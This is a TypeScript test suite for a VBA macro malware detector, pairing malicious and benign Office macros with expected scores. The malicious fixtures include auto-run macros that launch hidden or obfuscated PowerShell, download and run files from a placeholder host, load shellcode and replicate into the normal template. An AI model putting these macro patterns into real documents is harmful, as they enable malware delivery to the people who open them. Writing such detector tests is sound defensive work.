import assert from 'node:assert/strict'
import { test } from 'node:test'

import { judgeVba } from './vba/judge.ts'

const judge = (...modules: readonly string[]): ReturnType<typeof judgeVba> => judgeVba(modules, () => {})

const suspicious: readonly (readonly [string, string, string, number])[] = [
  [
    'opens and runs PowerShell with an encoded command',
    'Heuristic.Macro.AutoShell',
    'Sub AutoOpen()\n Shell "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", 0\nEnd Sub',
    90,
  ],
  [
    'a command put together from pieces, variables and numbers',
    'Heuristic.Macro.AutoShell',
    `Private Sub Document_Open()
 Dim a As String
 a = Chr(112) & "ow" & ChrW(&H65) & "rs"
 a = a & StrReverse("lleh") & " -nop " _
   & "-w 1"
 CreateObject("WSc" + "ript.Sh" & "ell").Run a, 0, False
End Sub`,
    90,
  ],
  [
    'downloads with XMLHTTP, saves with ADODB, runs',
    'Heuristic.Macro.Download',
    `Sub Workbook_Open()
Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", "http://example.test/a.txt", False: x.Send
Set s = CreateObject("ADODB.Stream"): s.Open: s.Type = 1: s.Write x.responseBody
f = Environ("TEMP") & "\\a.exe"
s.SaveToFile f, 2
Shell f
End Sub`,
    95,
  ],
  [
    'URLDownloadToFile',
    'Heuristic.Macro.Download',
    `Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr) As Long
Sub Auto_Open()
 URLDownloadToFile 0, "http://example.test/x", "c:\\x", 0, 0
End Sub`,
    90,
  ],
  [
    'machine code',
    'Heuristic.Macro.Shellcode',
    `Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As LongPtr) As LongPtr
Private Declare PtrSafe Function RtlMoveMemory Lib "kernel32" (ByVal a As LongPtr) As LongPtr
Private Declare PtrSafe Function CreateThread Lib "kernel32" (ByVal a As Long) As LongPtr
Sub AutoOpen()
 b = Array(252, 72, 131, 228, 240, 232)
End Sub`,
    95,
  ],
  [
    'a process through WMI',
    'Heuristic.Macro.AutoShell',
    `Sub Document_Open()
Set o = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")
o.Create "cmd /c start calc.exe", Null, Null, pid
End Sub`,
    90,
  ],
  [
    'starts at the painting of a control',
    'Heuristic.Macro.AutoShell',
    `Private Sub InkEdit1_GotFocus()
 Call Shell("mshta http://example.test/a.hta", vbHide)
End Sub`,
    89,
  ],
  [
    'a macro virus',
    'Heuristic.Macro.Replicates',
    `Sub AutoOpen()
Options.VirusProtection = False
NormalTemplate.VBProject.VBComponents.Item(1).CodeModule.InsertLines 1, code
End Sub`,
    86,
  ],
  [
    'a command in base 64',
    'Heuristic.Macro.AutoShell',
    `Sub AutoOpen()
c = "${Buffer.from('cmd /c start http://example.test/a').toString('base64')}"
Shell d(c), 0
End Sub`,
    90,
  ],
  [
    'a string written backwards for a later function',
    'Heuristic.Macro.AutoShell',
    `Sub AutoOpen()
x = turn("exe.llehsrewop")
Shell x
End Sub`,
    90,
  ],
  [
    'text replaced in noise',
    'Heuristic.Macro.AutoShell',
    `Const n = "p#@o#@w#@er#@sh#@ell -nop"
Sub AutoOpen()
 Shell Replace(n, "#@", ""), vbHide
End Sub`,
    90,
  ],
  [
    'a list joined',
    'Heuristic.Macro.AutoShell',
    `Sub AutoOpen()
 a = Array("c", "md", " /c ", "ver")
 Shell Join(a, "")
End Sub`,
    90,
  ],
]

for (const [title, name, source, least] of suspicious) {
  test(`suspicious: ${title}`, () => {
    const found = judge(source)
    assert.equal(found?.name, name)
    assert.ok(found.score >= least && found.score <= 100, `${found.score}`)
    assert.ok(found.reasons.length > 1)
    assert.ok(found.techniques.includes('T1059.005') && found.techniques.includes('T1204.002'))
  })
}

const ordinary: readonly (readonly [string, string])[] = [
  ['nothing', ''],
  [
    'attributes only',
    'Attribute VB_Name = "ThisWorkbook"\nAttribute VB_Base = "0{00020819-0000-0000-C000-000000000046}"',
  ],
  [
    'a greeting',
    'Private Sub Workbook_Open()\n MsgBox "Please fill in the yellow cells", vbInformation\nEnd Sub',
  ],
  [
    'formatting when opened',
    `Private Sub Workbook_Open()
 Worksheets("Data").Range("A1:D20").Interior.ColorIndex = 6
 Application.Calculation = xlCalculationManual
 Call RefreshAll
End Sub
Sub RefreshAll()
 ActiveWorkbook.RefreshAll
End Sub`,
  ],
  [
    'opens a folder for the user',
    'Private Sub Workbook_Open()\n Shell "explorer.exe " & ThisWorkbook.Path, vbNormalFocus\nEnd Sub',
  ],
  ['shows a log', 'Sub Auto_Open()\n x = Shell("notepad.exe c:\\logs\\today.txt", 1)\nEnd Sub'],
  [
    'writes a report',
    `Sub ExportReport()
 Dim f As Integer
 f = FreeFile
 Open ThisWorkbook.Path & "\\report.csv" For Output As #f
 Print #f, Join(Array("a", "b", "c"), ";")
 Close #f
End Sub`,
  ],
  [
    'opens a file by a dialog',
    `Private Sub Workbook_Open()
 Dim fd As FileDialog
 Set fso = CreateObject("Scripting.FileSystemObject")
 If fso.FileExists("C:\\data\\list.xlsx") Then Workbooks.Open "C:\\data\\list.xlsx"
End Sub`,
  ],
  [
    'sends a mail',
    `Sub Mail()
 Set o = CreateObject("Outlook.Application")
 Set m = o.CreateItem(0)
 m.To = "a@example.test": m.Subject = "Report " & Date: m.Body = "See " & "http://example.test/report.pdf"
 m.Display
End Sub`,
  ],
  [
    'a dictionary and a sheet event',
    `Private Sub Worksheet_Change(ByVal Target As Range)
 Set d = CreateObject("Scripting.Dictionary")
 d("x") = Chr(65) & Chr(10) & Chr(13)
End Sub`,
  ],
  [
    'reads rates from a service',
    `Private Sub Workbook_Open()
 Set h = CreateObject("MSXML2.XMLHTTP")
 h.Open "GET", "https://example.test/rates.xml", False
 h.Send
 Range("A1").Value = h.responseText
End Sub`,
  ],
  [
    'opens a document of the shell',
    'Sub Help_Click()\n CreateObject("Shell.Application").Open "C:\\help\\manual.pdf"\nEnd Sub',
  ],
]

for (const [title, source] of ordinary) {
  test(`ordinary: ${title}`, () => {
    const found = judge(source)
    assert.ok((found?.score ?? 0) < 60, JSON.stringify(found))
  })
}

test('a Shell with a program nobody knows is suspicious, but not certain', () => {
  const found = judge('Sub AutoOpen()\n Shell "C:\\Program Files\\Vendor\\sync.exe /quiet", 1\nEnd Sub')
  assert.ok(found !== undefined && found.score >= 50 && found.score < 90, `${found?.score}`)
})

test('what a comment or a remark says is not code', () => {
  assert.equal(
    judge('Sub AutoOpen()\n \' Shell "powershell"\n Rem Shell "cmd /c x"\n MsgBox "Shell"\nEnd Sub'),
    undefined,
  )
})

test('modules are judged together: one starts, the other runs', () => {
  const starts = 'Sub Document_Open()\n Work\nEnd Sub'
  const runs = 'Sub Work()\n Shell "powershell -w hidden"\nEnd Sub'
  assert.ok((judge(starts)?.score ?? 0) < 60)
  assert.ok((judge(runs)?.score ?? 0) < 60)
  assert.ok((judge(starts, runs)?.score ?? 0) >= 90)
})

test('hostile source costs bounded time', () => {
  const hostile = [
    `x = ${'('.repeat(200_000)}`,
    `x = ${'f('.repeat(100_000)}`,
    `x = ${'"a" & '.repeat(100_000)}"b"`,
    'x = x & x & "abc"\n'.repeat(30_000),
    `x = ${'-'.repeat(200_000)}1`,
    `x = ${'a.'.repeat(200_000)}`,
    `Shell ${'a, '.repeat(100_000)}`,
    '"'.repeat(300_000),
    ' _\n'.repeat(100_000),
    `Sub ${'a'.repeat(300_000)}`,
    'declare '.repeat(50_000),
    `x = Array(${'1,'.repeat(100_000)}1)`,
    `Sub AutoOpen()\n${'open '.repeat(40_000)}`,
    'private '.repeat(40_000),
  ]
  for (const [index, text] of hostile.entries()) {
    const started = performance.now()
    judge(text)
    assert.ok(performance.now() - started < 1500, `${index}: ${performance.now() - started} ms`)
  }
})
